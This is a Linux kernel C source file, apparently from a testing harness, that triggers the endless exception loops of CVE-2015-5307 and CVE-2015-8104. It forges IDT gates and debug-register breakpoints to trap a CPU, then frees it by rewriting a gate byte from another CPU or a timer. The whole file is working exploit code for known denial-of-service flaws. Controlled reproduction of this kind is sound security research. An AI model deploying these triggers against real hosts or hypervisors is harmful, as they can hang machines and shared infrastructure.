// SPDX-License-Identifier: GPL-2.0-only
/*
 * Exceptions that loop: their delivery ends in the next one, and no instruction is ever reached at
 * which an interrupt could be taken (CVE-2015-5307, CVE-2015-8104). Another CPU ends it by one byte
 * of the gate.
 */
#include <linux/hrtimer.h>
#include <linux/smp.h>
#include <asm/debugreg.h>
#include <asm/desc.h>
#include <asm/processor.h>
#include <asm/trapnr.h>
#include "attacker.h"
#include "machinery.h"

u32 raw_read(const void *at, const struct desc_ptr *idt);
u32 raw_debug(void *unused, const struct desc_ptr *idt);
extern const char raw_pair[];

#define UNMAPPED    (1ull << 46) /* nobody lives there */
#define GATE_OFFSET 0u /* bytes of a gate: the lowest of its address, and its present bit */
#define GATE_FLAGS  5u
#define GATE_ABSENT 0x0e
#define BREAKPOINT  (1ul << 1) /* DR7: DR0, globally, at execution */
#define PAIR_OTHER  32u
#define PATIENCE_MS 2000

static struct {
    u8 *byte; /* of the gate; NULL: nothing loops */
    u8 ends;  /* what it has to be for an end */
    u32 by;   /* who ended it */
    u32 number;
} loop;
static DEFINE_SPINLOCK(loop_lock);

static bool end_loop(u32 by)
{
    unsigned long flags = 0;
    bool was = false;

    spin_lock_irqsave(&loop_lock, flags);
    was = loop.byte;
    if (was) {
        loop.by = by;
        WRITE_ONCE(*loop.byte, loop.ends);
        loop.byte = NULL;
    }
    spin_unlock_irqrestore(&loop_lock, flags);
    return was;
}

/* Linux on CPU 0 may wait for this CPU, and run neither threads nor softirqs: so not for long. */
static struct hrtimer patience;
static enum hrtimer_restart on_time(struct hrtimer *timer)
{
    end_loop(2);
    return HRTIMER_NORESTART;
}

static void start_patience(void *unused)
{
    hrtimer_init(&patience, CLOCK_MONOTONIC, HRTIMER_MODE_REL_PINNED_HARD);
    patience.function = on_time;
    hrtimer_start(&patience, ms_to_ktime(PATIENCE_MS), HRTIMER_MODE_REL_PINNED_HARD);
}

long attack_loop_end(void)
{
    return end_loop(1);
}

long attack_looping(void)
{
    return READ_ONCE(loop.byte) ? READ_ONCE(loop.number) : 0;
}

/* The gate's byte that another CPU may change from now on. */
static void offer(gate_desc *gate, unsigned int byte, u8 ends)
{
    spin_lock(&loop_lock);
    loop.by = 0;
    loop.number++;
    loop.ends = ends;
    loop.byte = (u8 *)gate + byte;
    spin_unlock(&loop_lock);
}

/* #PF leads to where nothing is. Without its gate it is #NP, and both together are #DF. */
static u32 loop_fetch(gate_desc *gates, const struct desc_ptr *idt)
{
    pack_gate(&gates[X86_TRAP_PF], GATE_INTERRUPT, UNMAPPED, 0, 0, __KERNEL_CS);
    gates[X86_TRAP_PF].bits.ist = IST_INDEX_DF + 1;
    offer(&gates[X86_TRAP_PF], GATE_FLAGS, GATE_ABSENT);
    return raw_read((void *)UNMAPPED, idt);
}

/* #DB leads to an instruction with a breakpoint, which is a #DB before it runs. */
static u32 loop_debug(gate_desc *gates, const struct desc_ptr *idt)
{
    unsigned long handler = (unsigned long)raw_pair;
    u32 trap = 0;

    pack_gate(&gates[X86_TRAP_DB], GATE_INTERRUPT, handler, 0, 0, __KERNEL_CS);
    gates[X86_TRAP_DB].bits.ist = IST_INDEX_DF + 1;
    offer(&gates[X86_TRAP_DB], GATE_OFFSET, (u8)(handler + PAIR_OTHER));
    asm volatile("mov %0, %%db0" : : "r"(handler));
    asm volatile("mov %0, %%db7" : : "r"(BREAKPOINT));
    trap = raw_debug(NULL, idt);
    asm volatile("mov %0, %%db7" : : "r"(0ul));
    asm volatile("mov %0, %%db0" : : "r"(0ul));
    asm volatile("mov %0, %%db6" : : "r"((unsigned long)DR6_RESERVED));
    return trap;
}

long attack_loop(struct attacker *attacker, struct attack_loop *request)
{
    gate_desc *gates = attacker->bounce;
    struct desc_ptr idt = {.size = PAGE_SIZE - 1, .address = (unsigned long)gates};
    unsigned long flags = 0;

    if (request->kind >= ATTACK_LOOPS || raw_smp_processor_id() == 0)
        return -EINVAL;
    mutex_lock(&machinery_lock);
    mutex_lock(&attacker->lock);
    machinery_gates(gates, 256);
    smp_call_function_single(0, start_patience, NULL, 1);
    local_irq_save(flags);
    request->trap =
        request->kind == ATTACK_LOOP_FETCH ? loop_fetch(gates, &idt) : loop_debug(gates, &idt);
    end_loop(0);
    local_irq_restore(flags);
    request->ended = loop.by;
    hrtimer_cancel(&patience);
    mutex_unlock(&attacker->lock);
    mutex_unlock(&machinery_lock);
    return 0;
}
